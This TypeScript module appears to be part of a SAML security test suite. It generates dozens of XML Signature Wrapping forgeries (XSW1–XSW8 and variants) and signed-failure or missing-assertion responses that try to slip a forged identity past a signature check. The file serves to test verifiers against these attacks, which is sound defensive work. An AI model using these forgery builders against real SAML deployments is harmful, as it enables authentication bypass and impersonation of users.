import { SIGNED_WAYS, type SamlAttack } from './attack.js';
import { change, cut, EVE, plainResponse } from './stage.js';

interface Wrapped {
  /** What the provider sent. */
  readonly xml: string;
  readonly assertion: string;
  readonly signature: string;
  /** The attacker's own. */
  readonly evil: string;
}

type Placement = readonly [name: string, place: (wrapped: Wrapped) => string];

const AFTER_ISSUER = '</saml:Issuer>';
const STATUS = '</samlp:Status>';

function within(xml: string, closing: string, inserted: string): string {
  return change(xml, closing, inserted + closing);
}

function signedAs({ evil, signature }: Wrapped, inside = ''): string {
  const carried = inside === '' ? signature : within(signature, '</ds:Signature>', inside);
  return change(evil, AFTER_ISSUER, AFTER_ISSUER + carried);
}

function bare({ assertion, signature }: Wrapped): string {
  return assertion.replace(signature, '');
}

function object(content: string): string {
  return `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object>`;
}

/** The eight of "On Breaking SAML" (Somorovsky and others, 2012) as far as they move assertions, and their kin. */
const PLACEMENTS: readonly Placement[] = [
  ['XSW3: the forged one before', ({ xml, assertion, evil }) => change(xml, assertion, evil + assertion)],
  ['the forged one behind', ({ xml, assertion, evil }) => change(xml, assertion, assertion + evil)],
  [
    'XSW4: the genuine one inside the forged',
    ({ xml, assertion, evil }) => change(xml, assertion, within(evil, '</saml:Assertion>', assertion)),
  ],
  [
    'the genuine one in the Advice of the forged',
    ({ xml, assertion, evil }) =>
      change(xml, assertion, within(evil, '</saml:Conditions>', `<saml:Advice>${assertion}</saml:Advice>`)),
  ],
  [
    'the genuine one in an AttributeValue of the forged',
    ({ xml, assertion, evil }) => change(xml, assertion, within(evil, '</saml:AttributeValue>', assertion)),
  ],
  [
    'XSW5: the signature in the forged one, the genuine one behind',
    (all) => change(all.xml, all.assertion, signedAs(all) + bare(all)),
  ],
  [
    'the signature in the forged one, the genuine one before',
    (all) => change(all.xml, all.assertion, bare(all) + signedAs(all)),
  ],
  [
    'XSW6: the genuine one inside the signature of the forged',
    (all) => change(all.xml, all.assertion, signedAs(all, bare(all))),
  ],
  [
    'XSW8: the genuine one in an Object of that signature',
    (all) => change(all.xml, all.assertion, signedAs(all, object(bare(all)))),
  ],
  [
    'XSW7: the forged one in Extensions',
    ({ xml, evil }) =>
      change(xml, AFTER_ISSUER, `${AFTER_ISSUER}<samlp:Extensions>${evil}</samlp:Extensions>`),
  ],
  [
    'the genuine one in Extensions',
    ({ xml, assertion, evil }) =>
      change(
        change(xml, assertion, evil),
        AFTER_ISSUER,
        `${AFTER_ISSUER}<samlp:Extensions>${assertion}</samlp:Extensions>`,
      ),
  ],
  [
    'the genuine one in the status',
    ({ xml, assertion, evil }) =>
      within(change(xml, assertion, evil), STATUS, `<samlp:StatusDetail>${assertion}</samlp:StatusDetail>`),
  ],
  [
    'the forged one in the status',
    ({ xml, evil }) => within(xml, STATUS, `<samlp:StatusDetail>${evil}</samlp:StatusDetail>`),
  ],
  [
    'the genuine one in a foreign element',
    ({ xml, assertion, evil }) => change(xml, assertion, `${evil}<x xmlns="urn:x">${assertion}</x>`),
  ],
  ['the forged one in the KeyInfo', ({ xml, evil }) => within(xml, '</ds:KeyInfo>', evil)],
  [
    'the genuine one in the KeyInfo of the forged',
    (all) => {
      const carried = within(all.signature, '</ds:KeyInfo>', bare(all));
      return change(all.xml, all.assertion, change(all.evil, AFTER_ISSUER, AFTER_ISSUER + carried));
    },
  ],
  ['the forged one alone', ({ xml, assertion, evil }) => change(xml, assertion, evil)],
  ['the forged one with the signature', (all) => change(all.xml, all.assertion, signedAs(all))],
];

/** As XSW1 and XSW2 move whole responses. */
const RESPONSES: readonly Placement[] = [
  [
    'XSW1: the genuine response inside the forged one',
    ({ xml }) => within(forged(), '</samlp:Response>', xml),
  ],
  [
    'XSW2: the genuine response before the forged signature',
    ({ xml, signature }) => change(forged(), AFTER_ISSUER, AFTER_ISSUER + xml + signature),
  ],
  [
    'the genuine response in an Object of its signature, in the forged one',
    ({ xml, signature }) =>
      change(
        forged(),
        AFTER_ISSUER,
        AFTER_ISSUER + within(signature, '</ds:Signature>', object(xml.replace(signature, ''))),
      ),
  ],
  [
    'the genuine response in Extensions of the forged one',
    ({ xml }) => change(forged(), AFTER_ISSUER, `${AFTER_ISSUER}<samlp:Extensions>${xml}</samlp:Extensions>`),
  ],
  ['the forged response inside the genuine one', ({ xml }) => within(xml, STATUS, forged())],
  ['an outer element around the genuine response', ({ xml }) => `<x>${xml}</x>`],
  [
    'an ArtifactResponse around the genuine response',
    ({ xml }) =>
      `<samlp:ArtifactResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_o">${xml}</samlp:ArtifactResponse>`,
  ],
  ['the assertion alone', ({ assertion }) => assertion],
];

function forged(): string {
  return plainResponse({ nameId: EVE, responseId: '_evil-response', assertionId: '_evil' });
}

const EVIL_IDS = ['_evil', '_assertion', ''] as const;

function attacks(placements: readonly Placement[], evilIds: readonly string[]): readonly SamlAttack[] {
  return placements.flatMap(([name, place]) =>
    evilIds.flatMap((assertionId) =>
      SIGNED_WAYS.map((what): SamlAttack => [
        `${name}, ID "${assertionId}" (${what} signed)`,
        (stage) => {
          const xml = stage.signed(what);
          const assertion = cut(xml, 'saml:Assertion');
          const evil = cut(plainResponse({ nameId: EVE, assertionId }), 'saml:Assertion');
          const signature = cut(what === 'response' ? xml : assertion, 'ds:Signature');
          return place({ xml, assertion, signature, evil });
        },
      ]),
    ),
  );
}

export const WRAPPING_ATTACKS: readonly SamlAttack[] = [
  ...attacks(PLACEMENTS, EVIL_IDS),
  ...attacks(RESPONSES, ['_evil']),
];

const FAILED = /<samlp:Status>[^]*<\/samlp:Status>/;
const responder = '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>';

function withoutAssertion(xml: string): string {
  return change(xml, cut(xml, 'saml:Assertion'), '');
}

/** What the provider signed is no sign-in, or no response at all. */
export const SIGNED_OTHERWISE: readonly SamlAttack[] = [
  [
    'a signed failure with an assertion in it',
    (stage) =>
      stage.sign(change(plainResponse(), FAILED, `<samlp:Status>${responder}</samlp:Status>`), 'Response'),
  ],
  [
    'a signed failure with a forged assertion put in',
    (stage) => {
      const failure = change(
        withoutAssertion(plainResponse()),
        FAILED,
        `<samlp:Status>${responder}</samlp:Status>`,
      );
      return within(stage.sign(failure, 'Response'), '</samlp:Response>', cut(forged(), 'saml:Assertion'));
    },
  ],
  [
    'a signed success without an assertion, and a forged one put in',
    (stage) =>
      within(
        stage.sign(withoutAssertion(plainResponse()), 'Response'),
        '</samlp:Response>',
        cut(forged(), 'saml:Assertion'),
      ),
  ],
  [
    'a signed success without an assertion',
    (stage) => stage.sign(withoutAssertion(plainResponse()), 'Response'),
  ],
  ['a response without a status', (stage) => change(stage.signed('assertion'), FAILED, '')],
  [
    'two statuses',
    (stage) =>
      within(stage.signed('assertion'), STATUS, `${STATUS}<samlp:Status>${responder}</samlp:Status>`),
  ],
  [
    'a LogoutResponse with an assertion in it',
    (stage) => stage.signed('assertion').replaceAll('samlp:Response', 'samlp:LogoutResponse'),
  ],
  [
    'two genuine assertions of two people',
    (stage) => {
      const other = stage.sign(plainResponse({ nameId: EVE, assertionId: '_other' }), 'Assertion');
      const mine = stage.signed('assertion');
      return within(mine, '</samlp:Response>', cut(other, 'saml:Assertion'));
    },
  ],
];
